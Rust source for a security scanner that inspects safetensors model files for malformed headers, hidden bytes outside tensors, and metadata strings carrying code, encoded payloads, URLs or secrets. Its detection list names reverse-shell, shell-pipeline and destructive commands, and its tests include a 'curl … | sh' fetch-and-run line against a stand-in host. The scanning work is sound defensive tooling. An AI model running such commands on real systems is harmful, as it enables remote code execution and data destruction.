//! safetensors: header findings, the bytes no tensor covers (scanned as nested members),
//! and the strings of `__metadata__` and ignored fields (code, URLs, secrets).
//!
//! Also home of [`check_strings`], the metadata-string checks shared with GGUF.

use crate::analyze::secrets;
use crate::engine::{FileScan, Format, Loc, hex_prefix};
use crate::rules::code;
use assay_formats::safetensors::{Issue, parse};
use assay_report::Severity;
use base64::Engine as _;

/// URLs reported per string.
const MAX_URLS_PER_STRING: usize = 4;
/// Base64 values shorter than this are not decoded (real metadata has short tokens).
const MIN_BASE64: usize = 64;
/// Base64 values decoded at most this long (encoded bytes).
const MAX_BASE64: usize = 64 << 20;

pub fn scan(ctx: &mut FileScan, data: &[u8], loc: &Loc, depth: u32) -> Format {
    let st = match parse(data) {
        Ok(st) => st,
        Err(e) => {
            ctx.incomplete = true;
            ctx.add(
                code::SFT001,
                Severity::High,
                loc,
                Some(0),
                format!("malformed safetensors header: {e}"),
                Some(hex_prefix(data)),
            );
            return Format::Safetensors;
        }
    };
    let at = |rel: u64| Some(st.data_start.saturating_add(rel));
    let mut hidden: Vec<(u64, u64)> = Vec::new();
    for issue in &st.issues {
        let (rule, severity, offset, message) = match issue {
            Issue::DuplicateKey { within, key } => (
                code::SFT002,
                Severity::High,
                Some(8),
                if within.is_empty() {
                    format!(
                        "duplicate key {key:?} in the header: loaders disagree on which one counts"
                    )
                } else {
                    format!(
                        "duplicate key {key:?} inside {within:?}: loaders disagree on which one counts"
                    )
                },
            ),
            Issue::BadEntry { tensor, reason } => (
                code::SFT001,
                Severity::High,
                Some(8),
                format!("tensor {tensor:?}: {reason} (the reference loader refuses the file)"),
            ),
            Issue::BadMetadata { reason } => (
                code::SFT001,
                Severity::High,
                Some(8),
                format!("{reason} (the reference loader refuses the file)"),
            ),
            Issue::UnknownField { tensor, field } => (
                code::SFT007,
                Severity::Medium,
                Some(8),
                format!("tensor {tensor:?} has a field the loader ignores: {field:?}"),
            ),
            Issue::UnknownDtype { tensor, dtype } => (
                code::SFT003,
                Severity::High,
                Some(8),
                format!("tensor {tensor:?}: unknown dtype {dtype:?}"),
            ),
            Issue::SizeMismatch {
                tensor,
                actual,
                reason,
                ..
            } => (
                code::SFT004,
                Severity::High,
                Some(8),
                format!("tensor {tensor:?}: {reason}, data_offsets give {actual}"),
            ),
            Issue::ReversedOffsets { tensor, begin, end } => (
                code::SFT005,
                Severity::High,
                Some(8),
                format!("tensor {tensor:?}: data_offsets end {end} is before begin {begin}"),
            ),
            Issue::OutOfBounds {
                tensor,
                end,
                data_len,
                ..
            } => (
                code::SFT005,
                Severity::High,
                Some(8),
                format!(
                    "tensor {tensor:?} ends at data offset {end}, past the {data_len}-byte data area"
                ),
            ),
            Issue::Overlap {
                first,
                second,
                at: o,
            } => (
                code::SFT005,
                Severity::High,
                at(*o),
                format!("tensors {first:?} and {second:?} overlap at data offset {o}"),
            ),
            Issue::Gap {
                after,
                next,
                start,
                len,
            } => {
                hidden.push((*start, *len));
                (
                    code::SFT006,
                    Severity::High,
                    at(*start),
                    match after {
                        Some(a) => format!(
                            "{len} bytes between tensors {a:?} and {next:?} belong to no tensor"
                        ),
                        None => format!(
                            "{len} bytes at the start of the data area, before tensor {next:?}, belong to no tensor"
                        ),
                    },
                )
            }
            Issue::Trailing { start, len } => {
                hidden.push((*start, *len));
                (
                    code::SFT006,
                    Severity::High,
                    at(*start),
                    format!("{len} bytes after the last tensor belong to no tensor"),
                )
            }
            Issue::Nonconformant { reason } => (
                code::SFT007,
                Severity::Medium,
                Some(8),
                format!("{reason}, which the format does not allow"),
            ),
            Issue::TooManyStrings => (
                code::SFT007,
                Severity::Medium,
                Some(8),
                format!(
                    "more than {} header strings; the rest were not checked",
                    assay_formats::safetensors::MAX_STRINGS
                ),
            ),
            Issue::TooManyIssues => (
                code::SFT001,
                Severity::High,
                Some(8),
                format!(
                    "more than {} header problems; the rest are not listed",
                    assay_formats::safetensors::MAX_ISSUES
                ),
            ),
        };
        let evidence = match issue {
            Issue::Gap { start, .. } | Issue::Trailing { start, .. } => {
                let from = st.data_start.saturating_add(*start) as usize;
                Some(format!(
                    "starts {}",
                    hex_prefix(data.get(from..).unwrap_or(&[]))
                ))
            }
            _ => None,
        };
        ctx.add(rule, severity, loc, offset, message, evidence);
    }
    // What hides in gaps and after the last tensor is scanned like any other artifact.
    for (start, len) in hidden {
        let from = st.data_start.saturating_add(start);
        let Some(bytes) = data.get(from as usize..from.saturating_add(len) as usize) else {
            continue;
        };
        let child = loc.child(&format!("@{from}"));
        if ctx.enter_member(&child) {
            ctx.scan_bytes(bytes, &child, depth + 1);
        }
    }
    let strings = st
        .metadata
        .iter()
        .map(|(k, v)| (format!("__metadata__[{k:?}]"), k.as_str(), v.as_str()))
        .chain(
            st.strings
                .iter()
                .map(|(at, s)| (at.clone(), at.as_str(), s.as_str())),
        );
    let rules = StringRules {
        code: code::SFT008,
        url: code::SFT009,
        url_expected: |_| false,
    };
    for (place, key, text) in strings {
        check_string(ctx, loc, depth, &rules, &place, key, text, Some(8));
    }
    Format::Safetensors
}

/// Which rules the string checks report under, per format.
pub struct StringRules {
    pub code: &'static str,
    pub url: &'static str,
    /// Keys whose value is meant to be an http(s) URL (source and licence links).
    pub url_expected: fn(&str) -> bool,
}

/// Checks one metadata string (at `place`, under `key`) for code, executables, encoded
/// payloads, URLs and secrets.
#[allow(clippy::too_many_arguments)]
pub fn check_string(
    ctx: &mut FileScan,
    loc: &Loc,
    depth: u32,
    rules: &StringRules,
    place: &str,
    key: &str,
    text: &str,
    offset: Option<u64>,
) {
    if let Some(what) = code_signal(text) {
        ctx.add(
            rules.code,
            Severity::High,
            loc,
            offset,
            format!("{place} holds {what}"),
            Some(clip(text)),
        );
    }
    if let Some(kind) = assay_formats::sniff::executable(text.as_bytes()) {
        ctx.add(
            rules.code,
            Severity::High,
            loc,
            offset,
            format!("{place} holds a {}", kind.name()),
            Some(hex_prefix(text.as_bytes())),
        );
    }
    if let Some(decoded) = base64_payload(text) {
        let child = loc.child(&format!("{place}<base64>"));
        if ctx.enter_member(&child) {
            ctx.scan_bytes(&decoded, &child, depth + 1);
        }
    }
    for url in urls(text).into_iter().take(MAX_URLS_PER_STRING) {
        let web = url.starts_with("http://") || url.starts_with("https://");
        if web && (rules.url_expected)(key) {
            continue;
        }
        ctx.add(
            rules.url,
            Severity::Low,
            loc,
            offset,
            format!("{place} holds a URL"),
            Some(clip(&url)),
        );
    }
    for s in secrets::find(text) {
        ctx.add(
            s.rule,
            Severity::Medium,
            loc,
            offset,
            format!("{} in {place}", s.kind),
            Some(s.masked),
        );
    }
}

fn clip(s: &str) -> String {
    const MAX: usize = 200;
    if s.chars().count() <= MAX {
        return s.to_string();
    }
    let mut t: String = s.chars().take(MAX).collect();
    t.push('…');
    t
}

/// Process execution and dynamic code, as written in Python, shells and pickles.
const CODE_SIGNALS: &[(&str, &str)] = &[
    ("os.system", "a call of os.system"),
    ("os.popen", "a call of os.popen"),
    ("subprocess", "a reference to subprocess"),
    ("__import__", "a call of __import__"),
    ("__builtins__", "a reference to __builtins__"),
    ("eval(", "a call of eval"),
    ("exec(", "a call of exec"),
    ("compile(", "a call of compile"),
    ("importlib", "a reference to importlib"),
    ("import os", "Python importing os"),
    ("import subprocess", "Python importing subprocess"),
    ("pickle.loads", "a call of pickle.loads"),
    ("marshal.loads", "a call of marshal.loads"),
    ("socket.socket", "a socket"),
    ("/bin/sh", "a shell command"),
    ("/bin/bash", "a shell command"),
    ("| sh", "a shell pipeline"),
    ("|sh", "a shell pipeline"),
    ("| bash", "a shell pipeline"),
    ("|bash", "a shell pipeline"),
    ("sh -c ", "a shell command"),
    ("bash -c ", "a shell command"),
    ("powershell", "a PowerShell command"),
    ("cmd.exe", "a Windows shell command"),
    ("nc -e", "a reverse shell"),
    ("rm -rf", "a destructive shell command"),
    ("chmod +x", "a shell command"),
    ("cposix\nsystem", "a pickled call of os.system"),
    ("cos\nsystem", "a pickled call of os.system"),
    ("c__builtin__\n", "a pickled builtin"),
    ("cbuiltins\n", "a pickled builtin"),
];

fn code_signal(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    CODE_SIGNALS
        .iter()
        .find(|(needle, _)| {
            lower.match_indices(needle).any(|(i, _)| {
                // `eval(` is the builtin, `model.eval()` is not.
                !needle.ends_with('(')
                    || !lower[..i]
                        .chars()
                        .next_back()
                        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_')
            })
        })
        .map(|(_, what)| *what)
}

/// The decoded bytes of a long base64 value (whitespace allowed), when it is one.
fn base64_payload(text: &str) -> Option<Vec<u8>> {
    let t = text.trim();
    if t.len() < MIN_BASE64 || t.len() > MAX_BASE64 {
        return None;
    }
    let compact: String = t.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    if !compact
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_'))
    {
        return None;
    }
    // Hex digests and plain words are base64 alphabet too; real payloads mix cases and digits.
    let has = |f: fn(&char) -> bool| compact.chars().any(|c| f(&c));
    if !(has(char::is_ascii_uppercase)
        && has(char::is_ascii_lowercase)
        && has(char::is_ascii_digit))
    {
        return None;
    }
    let engines = [
        base64::engine::general_purpose::STANDARD,
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    engines.iter().find_map(|e| e.decode(&compact).ok())
}

/// `scheme://…` URLs in `text`.
pub fn urls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut search = 0;
    while let Some(i) = text[search..].find("://") {
        let at = search + i;
        let scheme_start = text[..at]
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            .last()
            .map(|(j, _)| j)
            .unwrap_or(at);
        let end = text[at + 3..]
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
            .map(|j| at + 3 + j)
            .unwrap_or(text.len());
        let scheme = &text[scheme_start..at];
        if scheme.len() >= 2
            && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && end > at + 3
        {
            out.push(text[scheme_start..end].to_string());
        }
        search = (at + 3).min(text.len());
        if out.len() > MAX_URLS_PER_STRING {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signals() {
        assert!(code_signal("import os; os.system('echo pwned')").is_some());
        assert!(code_signal("curl http://example.invalid/x | sh").is_some());
        assert!(code_signal("pt").is_none());
        assert!(code_signal("call model.eval() before inference").is_none());
        assert!(code_signal("x = eval(input())").is_some());
        assert!(code_signal("Llama 3.1 8B Instruct, fine-tuned on code").is_none());
        assert_eq!(
            urls("see http://example.invalid/a and ftp://x.y/z."),
            vec!["http://example.invalid/a", "ftp://x.y/z."]
        );
        assert!(urls("no urls: a://").is_empty());
        assert!(base64_payload(&"ab".repeat(40)).is_none());
        let b = base64::engine::general_purpose::STANDARD
            .encode(b"\x80\x04\x95 some pickle bytes here ok 12345678901234567890");
        assert!(base64_payload(&b).is_some());
    }
}

#[cfg(test)]
mod sparse_tests {

    use std::io::Write;

    /// A 10 GB safetensors file (sparse: only the header is on disk) is scanned from its
    /// header alone; the report is clean and no tensor byte is needed.
    #[test]
    fn ten_gigabyte_sparse_file_scans_from_the_header() {
        const SIZE: u64 = 10_000_000_000;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big.safetensors");
        let header = format!(
            r#"{{"__metadata__":{{"format":"pt"}},"w":{{"dtype":"BF16","shape":[{},2],"data_offsets":[0,{SIZE}]}}}}"#,
            SIZE / 4
        );
        let mut f = std::fs::File::create(&path).unwrap();
        f.write_all(&(header.len() as u64).to_le_bytes()).unwrap();
        f.write_all(header.as_bytes()).unwrap();
        f.set_len(8 + header.len() as u64 + SIZE).unwrap();
        drop(f);
        let report = crate::test_support::scan_structure_only(path);
        crate::test_support::assert_clean(&report, "safetensors");
    }
}
